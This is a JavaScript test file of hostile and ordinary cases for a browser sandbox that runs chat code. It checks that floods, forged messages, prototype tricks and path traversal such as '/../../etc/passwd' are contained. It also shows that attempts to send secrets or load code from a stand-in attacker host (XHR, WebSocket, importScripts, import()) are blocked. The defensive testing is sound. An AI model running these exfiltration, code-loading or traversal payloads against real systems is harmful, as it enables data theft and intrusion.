// What the sandbox must do, and what it must withstand, as code that runs in it. A case is
//   { name, code, …options of RunRequest in page.ts, expect?(report), value? }
// `value` is short for "returned this JSON value". After every case the page must be whole, nothing may come late, and the
// attacker's servers must not have been reached. `HOST` and `STUN` in the code become their addresses.
import assert from 'node:assert/strict'
import { chartCases } from './chart-cases.mjs'
import { moduleCases } from './module-cases.mjs'

const returned = (report) => {
  assert.equal(report.outcome.kind, 'returned', JSON.stringify(report.outcome))
  return report.outcome.valueIsJson ? JSON.parse(report.outcome.value) : report.outcome.value
}
const threw = (report, pattern) => {
  assert.equal(report.outcome.kind, 'threw', JSON.stringify(report.outcome))
  assert.match(report.outcome.message, pattern)
}
const timedOut = (report) => assert.equal(report.outcome.kind, 'timed-out', JSON.stringify(report.outcome))
const lines = (report) => report.events.filter((e) => e.type === 'console').map((e) => `${e.level}: ${e.text}`)
const shown = (report) => report.events.filter((e) => e.type === 'display')

const useful = [
  {
    name: 'returns the value of an explicit return',
    code: 'return { a: [1, 2], b: "x" }',
    value: { a: [1, 2], b: 'x' },
  },
  { name: 'returns the value of the last expression', code: 'const a = 6\nconst b = 7\na * b', value: 42 },
  { name: 'awaits at the top level', code: 'await new Promise((r) => setTimeout(r, 5)); "later"', value: 'later' },
  {
    name: 'returns what is no JSON as text',
    code: 'new Map([["a", 1]])',
    expect: (r) => assert.equal(returned(r), 'Map(1) { "a" => 1 }'),
  },
  {
    name: 'says what was thrown and on which line',
    code: 'const a = 1\nfunction inner() {\n  null.x\n}\ninner()',
    expect: (r) =>
      threw(
        r,
        /^TypeError: Cannot read properties of null.*\n {2}at inner \(line 3, column 8\)\n {2}at line 5, column 1$/,
      ),
  },
  {
    name: 'says where a syntax error stands',
    code: 'const a = 1\nconst b = (2\nconst c = 3',
    expect: (r) => threw(r, /^SyntaxError: .*\n {2}at line 3, column 1/),
  },
  {
    name: 'says when a syntax error is something that is not closed',
    code: 'const a = [1\n\nif (a) {',
    expect: (r) => threw(r, /^SyntaxError: /),
  },
  {
    name: 'tells of thrown values that are no errors',
    code: 'throw { a: 1 }',
    expect: (r) => threw(r, /^Thrown: \{ a: 1 \}$/),
  },
  {
    name: 'captures the console in order',
    code: 'console.log("a", { b: 1 }); console.warn("%s is %d", "x", 5); console.error(new Map()); console.table([{ n: 1 }])',
    expect: (r) => {
      assert.deepEqual(lines(r).slice(0, 3), ['log: a { b: 1 }', 'warn: x is 5', 'error: Map(0) {}'])
      assert.match(lines(r)[3], /\(index\) │ n\n.*\n0 {7}│ 1/)
    },
  },
  {
    name: 'sends console lines while the code runs',
    code: 'console.log("first"); for (;;) await new Promise((r) => setTimeout(r, 10))',
    timeoutMs: 400,
    expect: (r) => {
      timedOut(r)
      assert.deepEqual(lines(r), ['log: first'])
    },
  },
  {
    name: 'keeps console lines from before an endless loop',
    code: 'console.log("one"); console.log("two"); for (;;);',
    timeoutMs: 300,
    expect: (r) => {
      timedOut(r)
      assert.deepEqual(lines(r), ['log: one', 'log: two'])
    },
  },
  {
    name: 'tells of errors that nobody awaits',
    code: 'setTimeout(() => { throw new Error("in a timer") }); Promise.reject(new Error("unhandled")); await new Promise((r) => setTimeout(r, 50))',
    expect: (r) => {
      returned(r)
      assert.match(lines(r).join('\n'), /in a timer/)
      assert.match(lines(r).join('\n'), /unhandled/)
    },
  },
  {
    name: 'shows text, JSON, SVG, HTML and images',
    code: `display("words"); display({ a: 1 }); display('<svg xmlns="http://www.w3.org/2000/svg"/>'); display({ html: "<b>x</b>" });
      const c = new OffscreenCanvas(2, 2); c.getContext("2d").fillRect(0, 0, 1, 1); await display(c)`,
    expect: (r) => {
      assert.deepEqual(
        shown(r).map((e) => e.kind),
        ['text', 'json', 'svg', 'html', 'image'],
      )
      assert.match(shown(r)[4].data, /^data:image\/png;base64,/)
    },
  },
  {
    name: 'reads and writes files like Node',
    files: { '/in.txt': 'hello', '/d/a': '1' },
    code: `const text = await fs.readFile("/in.txt", "utf8")
      await fs.mkdir("out")
      await fs.writeFile("out/up.txt", text.toUpperCase())
      await fs.appendFile("out/up.txt", "!")
      await fs.mkdir("/deep/er", { recursive: true })
      await fs.rename("/d/a", "/d/b")
      const bytes = await fs.readFile("/in.txt")
      const stat = await fs.stat("/in.txt")
      const entries = await fs.readdir("/", { withFileTypes: true })
      return { size: stat.size, isFile: stat.isFile(), bytes: bytes.length, text: bytes.toString(), exists: [fs.existsSync("/in.txt"), await fs.exists("/no")],
        names: entries.map((e) => e.name + (e.isDirectory() ? "/" : "")) }`,
    expect: (r) => {
      assert.deepEqual(returned(r), {
        size: 5,
        isFile: true,
        bytes: 5,
        text: 'hello',
        exists: [true, false],
        names: ['d/', 'deep/', 'in.txt', 'out/'],
      })
      assert.equal(r.files['/out/up.txt'], 'HELLO!')
      assert.equal(r.files['/d/b'], '1')
    },
  },
  {
    name: 'fails like Node, with code, path and the line',
    code: 'const x = 1\nawait fs.readFile("/no.txt", "utf8")',
    expect: (r) => threw(r, /^Error: ENOENT: no such file or directory, open '\/no\.txt'\n {2}at (?:async )?line 2/),
  },
  {
    name: 'gives file errors their code',
    code: 'try { await fs.readFile("/") } catch (e) { return [e.code, e instanceof Error] }',
    value: ['EISDIR', true],
  },
  {
    name: 'keeps every append of many at once, and a thousand reads at once',
    files: { '/r': 'x' },
    code: `await Promise.all(Array.from({ length: 50 }, (_, i) => fs.appendFile("/log", i + "\\n")))
      const reads = await Promise.all(Array.from({ length: 1000 }, () => fs.readFile("/r", "utf8")))
      return [(await fs.readFile("/log", "utf8")).trim().split("\\n").length, reads.length]`,
    value: [50, 1000],
  },
  {
    name: 'does writes that nobody awaited',
    code: 'for (let i = 0; i < 100; i++) fs.writeFile("/f" + i, "x"); "done"',
    expect: (r) => assert.equal(Object.keys(r.files).length, 100),
  },
  {
    name: 'has the web’s own tools',
    code: 'return [typeof Intl, typeof TextEncoder, typeof URL, typeof structuredClone, crypto.getRandomValues(new Uint8Array(2)).length, typeof WebAssembly]',
    value: ['object', 'function', 'function', 'function', 2, 'object'],
  },
]

const stopping = [
  { name: 'stops at the time limit', code: 'await new Promise(() => {})', timeoutMs: 300, expect: timedOut },
  { name: 'stops an endless loop', code: 'for (;;);', timeoutMs: 300, expect: timedOut },
  { name: 'stops an endless chain of microtasks', code: 'for (;;) await null', timeoutMs: 300, expect: timedOut },
  {
    name: 'stops a regular expression that never ends',
    code: '/^(a+)+$/.test("a".repeat(50) + "b")',
    timeoutMs: 300,
    expect: timedOut,
  },
  {
    name: 'stops an endless getter while the result is written',
    code: 'return new Proxy({}, { ownKeys() { for (;;); } })',
    timeoutMs: 300,
    expect: timedOut,
  },
  {
    name: 'stops code that closes its own worker',
    code: 'self.close(); await new Promise(() => {})',
    timeoutMs: 300,
    expect: timedOut,
  },
  {
    name: 'stops when the user says so',
    code: 'for (;;);',
    stopAfterMs: 150,
    expect: (r) => {
      assert.equal(r.outcome.kind, 'stopped')
      assert.ok(r.outcome.durationMs < 2_000)
    },
  },
  {
    name: 'runs the next code right after a stop',
    code: 'return "alive"',
    value: 'alive',
  },
  {
    name: 'lets nothing come after the end',
    code: 'setInterval(() => fs.writeFile("/late", "x"), 1); setInterval(() => console.log("late"), 1); return 1',
    settleMs: 150,
    expect: (r) => {
      assert.equal(returned(r), 1)
      assert.equal(r.lateChanges, 0)
    },
  },
  {
    name: 'lets nothing come after a stop',
    code: 'for (;;) { fs.writeFile("/late", "x"); await null }',
    stopAfterMs: 100,
    settleMs: 150,
    expect: (r) => assert.ok(r.lateChanges <= 1, `${r.lateChanges} late changes`),
  },
  {
    name: 'a run that is stopped keeps none of its changes',
    files: { '/keep': 'kept' },
    code: 'const fs = require("fs"); fs.writeFileSync("/lost", "x"); fs.unlinkSync("/keep"); for (;;);',
    timeoutMs: 600,
    expect: (r) => {
      timedOut(r)
      assert.deepEqual(r.files, { '/keep': 'kept' })
    },
  },
  {
    name: 'a run that throws keeps what it did until then',
    code: 'require("fs").writeFileSync("/kept", "x"); throw new Error("boom")',
    expect: (r) => {
      threw(r, /^Error: boom/)
      assert.deepEqual(r.files, { '/kept': 'x' })
    },
  },
  {
    name: 'a run that ends itself keeps what it did until then, and nothing that comes after',
    code: 'const fs = require("fs"); fs.writeFileSync("/kept", "x"); try { process.exit(0) } catch {} fs.writeFileSync("/after", "x"); for (;;) console.log("still")',
    timeoutMs: 4_000,
    expect: (r) => {
      assert.deepEqual(
        Object.keys(r.files).filter((path) => path !== '/kept'),
        [],
      )
    },
  },
]

const floods = [
  {
    name: 'ends a flood of messages',
    code: 'for (;;) postMessage({ type: "log", lines: [] })',
    timeoutMs: 12_000,
    // On a busy machine the relay may be given up before it has counted to its budget.
    expect: (r) => assert.ok(['flooded', 'unavailable'].includes(r.outcome.kind), r.outcome.kind),
  },
  {
    name: 'cuts a flood of console lines',
    code: 'for (let i = 0; i < 200000; i++) console.log("line", i); "end"',
    expect: (r) => {
      assert.equal(returned(r), 'end')
      assert.ok(lines(r).length <= 2_001)
      assert.match(lines(r).at(-1), /console is full/)
    },
  },
  {
    name: 'drops forged console lines over the budget',
    code: 'for (let i = 0; i < 100; i++) postMessage({ type: "log", lines: Array(1000).fill(["log", "x".repeat(100)]) }); "end"',
    expect: (r) => assert.ok(lines(r).length <= 4_000, String(lines(r).length)),
  },
  {
    name: 'ends a flood of forged file calls',
    code: 'for (let i = 0; ; i++) postMessage({ type: "call", id: i, op: "snapshot", args: [] })',
    timeoutMs: 8_000,
    expect: (r) => assert.equal(r.outcome.kind, 'flooded'),
  },
  {
    name: 'cuts a huge result',
    code: 'return "x".repeat(50_000_000)',
    expect: (r) => assert.ok(r.outcome.kind === 'returned' && r.outcome.value.length < 310_000),
  },
  {
    name: 'cuts a huge object',
    code: 'return Array.from({ length: 1e6 }, (_, i) => ({ ["key" + i]: i }))',
    expect: (r) => assert.ok(r.outcome.kind === 'returned' && r.outcome.value.length < 310_000),
  },
  {
    name: 'refuses a file that no chat can hold where it is written',
    code: 'const out = []; try { fs.writeFileSync("/big", new Uint8Array(51e6)) } catch (e) { out.push(e.code, e.message) } return [...out, fs.statSync("/big").size]',
    value: ['EFBIG', "EFBIG: file too large, open '/big'. A file holds at most 50 MB.", 0],
  },
  {
    name: 'refuses a file over the limit of these files when the run is over, and keeps nothing then',
    code: 'fs.writeFileSync("/small", "x"); fs.writeFileSync("/big", new Uint8Array(8_000_001)); return 1',
    expect: (r) => {
      threw(r, /None of its changes to files were kept: There is no room for 8 MB: a file may hold 8 MB\./)
      assert.deepEqual(r.files, {})
    },
  },
  {
    name: 'refuses the file after the last one that fits',
    code: 'let n = 0; try { for (;; n++) fs.writeFileSync("/f" + n, "") } catch (e) { for (let i = 0; i < n; i++) fs.unlinkSync("/f" + i); return [n, e.code] }',
    timeoutMs: 20_000,
    value: [20_000, 'ENOSPC'],
  },
  {
    name: 'refuses displays over the limit',
    code: 'await display("x".repeat(3_000_000)); for (let i = 0; i < 200; i++) display(i); await display("end")',
    expect: (r) => assert.ok(shown(r).length <= 50),
  },
  {
    name: 'survives a heap that grows without end',
    code: 'const a = []; for (;;) a.push(new Array(1000).fill({}))',
    timeoutMs: 1_200,
    expect: (r) => assert.notEqual(r.outcome.kind, 'returned'),
  },
  {
    name: 'survives large buffers',
    code: 'const a = []; for (let i = 0; i < 12; i++) a.push(new Uint8Array(64e6).fill(1)); return a.length',
    timeoutMs: 8_000,
    expect: (r) => assert.ok(['returned', 'threw', 'timed-out', 'unavailable'].includes(r.outcome.kind)),
  },
  {
    name: 'survives endless recursion',
    code: 'const f = () => f(); f()',
    expect: (r) => threw(r, /Maximum call stack/),
  },
  {
    name: 'survives transferred buffers and odd messages',
    code: `for (const odd of [null, 1, "x", [], { type: 5 }, { type: "done_" }, { type: "log", lines: 7 }, { type: "call" }, { type: "show", kind: {}, data: [] }, new Map(), /x/]) postMessage(odd)
      const b = new ArrayBuffer(1e6); postMessage({ type: "call", id: 1e9, op: "stat", args: [b] }, [b]); return "fine"`,
    value: 'fine',
  },
]

const forgeries = [
  {
    name: 'a forged result is only the code’s own result',
    code: 'postMessage({ type: "done", ok: true, text: "\\"forged\\"", isJson: true }); for (;;);',
    value: 'forged',
  },
  {
    name: 'a second result does not count',
    code: 'postMessage({ type: "done", ok: true, text: "1", isJson: true }); postMessage({ type: "done", ok: true, text: "2", isJson: true }); for (;;);',
    value: 1,
  },
  {
    name: 'a result that claims to be JSON and is not stays text',
    code: 'postMessage({ type: "done", ok: true, text: "{oops", isJson: true }); for (;;);',
    expect: (r) => assert.equal(r.outcome.value, '{oops'),
  },
  {
    name: 'control messages of the relay can’t be forged',
    code: 'for (const type of ["ready", "pong", "killed", "run", "kill", "answer"]) postMessage({ type, run: "x", n: 1, id: 1 }); return "still here"',
    value: 'still here',
  },
  {
    name: 'unknown and inherited operations are refused',
    code: `const answers = []
      addEventListener("message", (e) => { if (e.data.type === "answer" && e.data.id >= 900) answers.push(e.data.answer.code) })
      ;["constructor", "__proto__", "toString", "watch", "close", "eval", ""].forEach((op, i) => postMessage({ type: "call", id: 900 + i, op, args: ["/"] }))
      while (answers.length < 7) await new Promise((r) => setTimeout(r, 5))
      return [...new Set(answers)]`,
    value: ['ENOSYS'],
  },
  {
    name: 'arguments of the wrong kind are refused',
    files: { '/keep': 'kept' },
    code: `const answers = []
      addEventListener("message", (e) => { if (e.data.type === "answer" && e.data.id >= 900) answers.push(e.data.answer.ok) })
      const remove = '[{"kind":"remove","path":"/keep"}]'
      const bad = [[], [{}], [null, new Blob([])], [remove], [remove, "x"], [new Uint8Array(3), new Blob([])], [{ toString: null }]]
      bad.forEach((args, i) => postMessage({ type: "call", id: 900 + i, op: "commit", args }))
      while (answers.length < bad.length) await new Promise((r) => setTimeout(r, 5))
      return answers.every((ok) => !ok)`,
    expect: (r) => {
      assert.equal(returned(r), true)
      assert.equal(r.files['/keep'], 'kept')
    },
  },
  {
    name: 'tricks on prototypes and built-ins stay inside',
    code: `Object.prototype.polluted = 1; Array.prototype.map = () => "gone"; Promise.prototype.then = undefined; JSON.stringify = () => "forged"; String = null; Map.prototype.get = () => () => 0
      return 5`,
    expect: (r) => assert.notEqual(r.outcome.kind, 'unavailable'),
  },
  {
    name: 'hostile values are only text',
    code: 'return { get a() { throw 1 }, toJSON() { throw 2 }, __proto__: null, [Symbol.toPrimitive]() { throw 3 } }',
    expect: (r) => assert.equal(r.outcome.kind, 'returned'),
  },
  {
    name: 'cycles and BigInts are shown',
    code: 'const a = { n: 5n }; a.self = a; a',
    expect: (r) => assert.equal(returned(r), '{ n: 5n, self: [Circular] }'),
  },
  {
    name: 'paths can’t leave the conversation’s files',
    files: { '/keep': 'kept' },
    code: `const tries = ["../../../etc/x", "/../../etc/passwd", "/a/../../x", "..\\\\x", "/a\\0b", "/\\ud800", "__proto__", "/constructor/x"]
      const codes = []
      for (const path of tries) for (const op of [() => fs.readFileSync(path), () => fs.writeFileSync(path, "x"), () => fs.readdirSync(path), () => fs.renameSync("/keep", path)])
        try { op(); codes.push("done " + path) } catch (e) { codes.push(e.code) }
      return [[...new Set(codes)].sort(), fs.readdirSync("/").sort()]`,
    expect: (r) => {
      const [codes, names] = returned(r)
      assert.deepEqual(
        codes.filter(
          (each) => !['EINVAL', 'ENOENT', 'ENOTDIR', 'ERR_INVALID_ARG_VALUE', 'done /a/../../x'].includes(each),
        ),
        [],
      )
      // What leads up beyond the top stays at the top.
      assert.deepEqual(names, ['x'])
      assert.deepEqual(r.files, { '/x': 'kept' })
    },
  },
  ...[
    ['no JSON', '{{{'],
    ['a step that is nothing', '[null]'],
    ['an unknown kind', '[{"kind":"chmod","path":"/keep"}]'],
    ['a way out', '[{"kind":"write","path":"/../../etc/x","at":0,"size":2}]'],
    ['a NUL', '[{"kind":"write","path":"/a\\u0000b","at":0,"size":2}]'],
    ['__proto__', '[{"kind":"write","path":"/__proto__/constructor","at":0,"size":2}]'],
    ['bytes that did not come', '[{"kind":"write","path":"/x","at":1e15,"size":2}]'],
    [
      'more files than a chat holds',
      JSON.stringify(Array.from({ length: 20_001 }, (_, at) => ({ kind: 'write', path: `/n${at}`, at: 0, size: 1 }))),
    ],
  ].map(([name, list]) => ({
    name: `a forged list of changes does nothing: ${name}`,
    files: { '/keep': 'kept' },
    code: `const answer = new Promise((ok) => addEventListener("message", ({ data }) => { if (data.id === 9000) ok(data.answer) }))
      postMessage({ type: "call", id: 9000, op: "commit", args: [${JSON.stringify(list)}, new Blob(["xxxx"])] })
      const { ok, code, message } = await answer
      return [ok, typeof code, message.endsWith(".")]`,
    expect: (r) => {
      assert.deepEqual(returned(r), [false, 'string', true])
      assert.deepEqual(r.files, { '/keep': 'kept' })
    },
  })),
  {
    name: 'a list of changes is handed in once, so a forged one costs the run its own',
    files: { '/keep': 'kept' },
    code: `postMessage({ type: "call", id: 9000, op: "commit", args: ["[]", new Blob([])] }); require("fs").writeFileSync("/own", "x"); return 1`,
    expect: (r) => {
      threw(r, /None of its changes to files were kept/)
      assert.deepEqual(r.files, { '/keep': 'kept' })
    },
  },
  {
    name: 'files that can only be read say so at the first change',
    files: { '/keep': 'kept' },
    readOnly: true,
    code: `const out = []; for (const op of [() => fs.writeFileSync("/n", "x"), () => fs.appendFileSync("/keep", "x"), () => fs.mkdirSync("/d"), () => fs.unlinkSync("/keep"), () => fs.renameSync("/keep", "/k"), () => fs.truncateSync("/keep")]) try { op(); out.push("done") } catch (e) { out.push(e.code + (e.message.endsWith("The files can only be read here. Nothing was changed.") ? "" : e.message)) }
      return [...new Set(out), fs.readFileSync("/keep", "utf8")]`,
    value: ['EROFS', 'kept'],
  },
  {
    name: 'links are refused',
    files: { '/keep': 'kept' },
    code: 'const out = []; for (const f of ["symlinkSync", "linkSync"]) try { fs[f]("/keep", "/l"); out.push("made") } catch (e) { out.push(e.code) } return [out, fs.readdirSync("/"), ["mount", "chroot", "xattr"].map((n) => typeof fs[n]), fs.existsSync("/dev"), fs.existsSync("/proc")]',
    value: [['EPERM', 'EPERM'], ['keep'], ['undefined', 'undefined', 'undefined'], false, false],
  },
]

const outside = [
  {
    name: 'there is no page, storage or credential to reach',
    code: `const names = ["window", "document", "parent", "top", "opener", "frames", "localStorage", "sessionStorage", "cookieStore", "RTCPeerConnection", "Worker"]
      return names.filter((name) => typeof globalThis[name] !== "undefined")`,
    value: [],
  },
  {
    name: 'databases and caches of the app can’t be opened',
    code: `const outcome = []
      try { await new Promise((ok, no) => { const q = indexedDB.open("nod-files-x"); q.onsuccess = () => ok(); q.onerror = () => no(q.error) }); outcome.push("idb") } catch {}
      try { await caches.keys(); outcome.push("caches") } catch {}
      try { await navigator.storage.getDirectory(); outcome.push("opfs") } catch {}
      try { await navigator.locks.request("nod:vfs:x", () => outcome.push("locks")) } catch {}
      return outcome`,
    value: [],
  },
  {
    name: 'a broadcast does not reach the app',
    code: 'try { new BroadcastChannel("nod:vfs:changes:x").postMessage("changed") } catch {} return self.origin',
    value: 'null',
  },
  {
    name: 'the app’s own API can’t be asked',
    code: `const native = Object.getPrototypeOf(Object.getPrototypeOf(self)).fetch ?? fetch
      try { return await (await native.call(self, "APP/api/secret", { credentials: "include" })).text() } catch (e) { return "refused" }`,
    value: 'refused',
  },
  {
    name: 'no request leaves: fetch, XHR, WebSocket, EventSource, WebTransport',
    code: `const done = []
      let proto = self; while (proto && !Object.hasOwn(proto, "__never")) { const f = Object.getOwnPropertyDescriptor(proto, "fetch"); if (f?.value) { try { await f.value.call(self, "http://HOST/fetch"); done.push("fetch") } catch {} } proto = Object.getPrototypeOf(proto) }
      try { await new Promise((ok, no) => { const x = new XMLHttpRequest(); x.open("POST", "http://HOST/xhr"); x.onload = ok; x.onerror = no; x.send("secret") }); done.push("xhr") } catch {}
      try { const x = new XMLHttpRequest(); x.open("GET", "http://HOST/xhr-sync", false); x.send(); done.push("sync") } catch {}
      try { await new Promise((ok, no) => { const w = new WebSocket("ws://HOST/ws"); w.onopen = ok; w.onerror = no }); done.push("ws") } catch {}
      try { await new Promise((ok, no) => { const s = new EventSource("http://HOST/sse"); s.onopen = ok; s.onerror = no }); done.push("sse") } catch {}
      try { const t = new WebTransport("https://HOST/wt"); await t.ready; done.push("wt") } catch {}
      try { navigator.sendBeacon?.("http://HOST/beacon") && done.push("beacon") } catch {}
      return done`,
    value: [],
  },
  {
    name: 'no code is loaded: importScripts, import(), nested workers, WebAssembly',
    code: `const done = []
      try { importScripts("http://HOST/import.js"); done.push("importScripts") } catch {}
      try { importScripts("data:text/javascript,1"); done.push("data") } catch {}
      try { await import("http://HOST/module.js"); done.push("import") } catch {}
      try { await new AsyncFunction("return import('http://HOST/module2.js')")(); done.push("import2") } catch {}
      try { await WebAssembly.compileStreaming(fetch("http://HOST/x.wasm")); done.push("wasm") } catch {}
      try { new SharedWorker("http://HOST/w.js"); done.push("shared") } catch {}
      try { const W = Object.getPrototypeOf(self).Worker ?? self.Worker; new W("http://HOST/w.js"); done.push("worker") } catch {}
      return done`,
    value: [],
  },
  {
    name: 'nothing can be navigated or opened',
    code: `const done = []
      try { self.location = "http://HOST/location" } catch {}
      try { location.href = "http://HOST/href" } catch {}
      try { location.assign("http://HOST/assign") } catch {}
      try { open("http://HOST/open"); done.push("open") } catch {}
      try { clients.openWindow("http://HOST/client") } catch {}
      try { new Notification("x", { icon: "http://HOST/icon" }) } catch {}
      try { new RTCPeerConnection({ iceServers: [{ urls: "stun:STUN" }] }).createDataChannel("x"); done.push("rtc") } catch {}
      return done`,
    value: [],
  },
  {
    name: 'no font, image or style is fetched',
    code: `try { await new FontFace("x", "url(http://HOST/font)").load() } catch {}
      try { const c = new OffscreenCanvas(1, 1).getContext("2d"); c.font = "1px url(http://HOST/canvas)"; c.filter = "url(http://HOST/filter#x)"; c.fillRect(0, 0, 1, 1) } catch {}
      return "tried"`,
    value: 'tried',
  },
]

const frameLoss = [
  {
    name: 'says so when the frame dies under a run',
    code: 'await new Promise(() => {})',
    breakAfterMs: 100,
    timeoutMs: 15_000,
    expect: (r) => {
      assert.equal(r.outcome.kind, 'unavailable')
      assert.match(r.outcome.message, /try again/)
    },
  },
  { name: 'makes a new frame when the last one died', code: 'return "new frame"', value: 'new frame' },
  {
    name: 'notices a frame that died between runs',
    code: 'return 1',
    expect: (r) => assert.equal(returned(r), 1),
    breakBefore: true,
  },
]

/** Asks the page for assets by messages of its own, as no honest prelude does. */
const asking = (names) => `const bytes = {}
  let answered = 0
  addEventListener("message", ({ data }) => { if (data.type === "asset") { answered++; bytes[data.id] = data.bytes?.length ?? null } })
  const names = ${JSON.stringify(names)}
  names.forEach((name, id) => postMessage({ type: "asset", id: 900 + id, name }))
  while (answered < names.length) await new Promise((r) => setTimeout(r, 5))`

const assets = [
  {
    name: 'an asset of the list comes from the page, one a run',
    code: `${asking(['papaparse.js', 'papaparse.js'])}\nreturn [bytes[900] > 10_000, bytes[901]]`,
    value: [true, null],
  },
  {
    name: 'no other name makes the page fetch anything',
    code: `${asking(['', 'nothing.js', '../sandbox.html', '/api/secret', 'vega.js/../../api/secret', 'http://HOST/x.js', '//HOST/x', '__proto__', 'constructor', 'vega.js?x', 'VEGA.JS', 'x'.repeat(5000)])}\nreturn Object.values(bytes).every((length) => length === null)`,
    value: true,
  },
  {
    name: 'a slow network takes none of the run’s time',
    code: `${asking(['simple-statistics.js'])}\nreturn bytes[900] > 10_000`,
    assetDelayMs: 900,
    timeoutMs: 600,
    value: true,
  },
]

/** In this order: later cases rely on the sandbox having survived the earlier ones. */
export const sandboxCases = [
  ...useful,
  ...moduleCases,
  ...chartCases,
  ...assets,
  ...forgeries,
  ...outside,
  ...stopping,
  ...floods,
  ...frameLoss,
]

/** Throws when a report is not what the case wants, or when the case reached beyond the sandbox. */
export function checkSandboxCase(sandboxCase, report, attackerHits) {
  if ('value' in sandboxCase) assert.deepEqual(returned(report), sandboxCase.value)
  sandboxCase.expect?.(report)
  assert.ok(report.intact, 'the page was changed')
  assert.deepEqual(attackerHits, [], 'another origin was reached')
  assert.ok(!JSON.stringify([report.outcome, report.events]).includes('APPSECRET'), 'a secret of the app came out')
  assert.ok(report.frameGapMs < 1_500, `the page stood still for ${Math.round(report.frameGapMs)} ms`)
}
